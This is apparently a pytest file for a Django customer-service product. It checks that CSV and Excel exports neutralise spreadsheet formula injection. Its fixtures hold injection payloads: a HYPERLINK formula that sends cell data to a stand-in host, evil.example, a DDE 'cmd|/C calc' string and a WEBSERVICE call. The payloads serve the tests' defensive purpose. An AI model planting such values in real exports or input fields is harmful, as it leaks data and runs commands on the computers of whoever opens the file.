"""No file the product writes turns typed text into a spreadsheet formula (CSV injection):
each export, with a customer or a member of staff who typed `=`, `+`, `-` or `@` first."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from azukari.audit.services import personal_data_access
from azukari.cases.services import case_open, contact_log
from azukari.core.spreadsheets import csv_cell
from azukari.floor.tests.factories import at, parked_case
from azukari.subscriptions.reports import ConsistencyReport, RateRow, report_csv
from azukari.testing.factories import CustomerFactory

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def _cells(response) -> list:
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def test_the_rule_follows_owasp_and_leaves_numbers_alone():
    for text in ("=1+1", "+81 90", "-cmd", "@SUM(A1)", "\tx", "\rx", "＝１"):
        assert csv_cell(text) == "'" + text
    assert [csv_cell(v) for v in ("-3.5", "+12", 7, None, "田中", "")] == [
        "-3.5",
        "+12",
        7,
        None,
        "田中",
        "",
    ]


@pytest.fixture
def typed(cast):
    """A customer whose name, and a call whose subject and summary, start like formulas."""
    customer = CustomerFactory(
        client=cast.coffee, family_name=EVIL, given_name="+1 555", customer_number="C1"
    )
    contact = contact_log(
        actor=cast.operator,
        client=cast.coffee,
        customer=customer,
        caller_number="+819012345678",
        summary="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    case_open(contact=contact, actor=cast.operator, kind="cancellation", subject="-2+3+cmd")
    personal_data_access(
        viewer=cast.desk,
        customers=[customer],
        fields=("name",),
        action="view",
        purpose="=WEBSERVICE(1)",
    )
    return customer


@pytest.mark.django_db
def test_the_customers_cases_contacts_and_audit_csvs_write_formulas_as_text(client, cast, typed):
    client.force_login(cast.desk)
    for what, typed_text in (
        ("customers", EVIL),
        ("cases", "-2+3+cmd"),
        ("contacts", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("audit", "=WEBSERVICE(1)"),
    ):
        rows = _csv(client.get(f"/exports/coffee/?what={what}&purpose=test"))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + typed_text in cells, what
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), what


@pytest.mark.django_db
def test_the_customers_and_cases_workbooks_hold_text_cells(client, cast, typed):
    client.force_login(cast.desk)
    for what, typed_text in (("customers", EVIL), ("cases", "-2+3+cmd")):
        cells = _cells(client.get(f"/exports/coffee/?what={what}&format=xlsx&purpose=test"))
        found = [c for c in cells if c.value == typed_text]
        assert found and all(c.data_type == "s" for c in found), what
        assert not any(c.data_type == "f" for c in cells), what


@pytest.mark.django_db
def test_the_backlog_csv_and_workbook_write_a_subject_as_text(client, cast):
    with time_machine.travel(at("2026-11-25"), tick=False):
        parked_case(
            client=cast.coffee,
            operator=cast.operator,
            team=cast.sapporo_desk,
            when=at("2026-11-10"),
            subject=EVIL,
        )
        client.force_login(cast.desk)
        url = reverse("backlog-list", args=["azukari"])
        rows = _csv(client.get(url, {"format": "csv"}))
        assert rows[1][1] == "'" + EVIL
        cells = _cells(client.get(url, {"format": "xlsx"}))
    subject = next(c for c in cells if c.value == EVIL)
    assert subject.data_type == "s"
    assert not any(c.data_type == "f" for c in cells)


def test_the_consistency_report_csv_writes_a_username_as_text():
    report = ConsistencyReport(
        date_from=dt.date(2026, 6, 1),
        date_to=dt.date(2026, 6, 30),
        rows=(RateRow(dimension="approver", key="@evil", decided=3, granted=1),),
        trends=(),
    )
    assert "approver,'@evil,3,1" in report_csv(report)
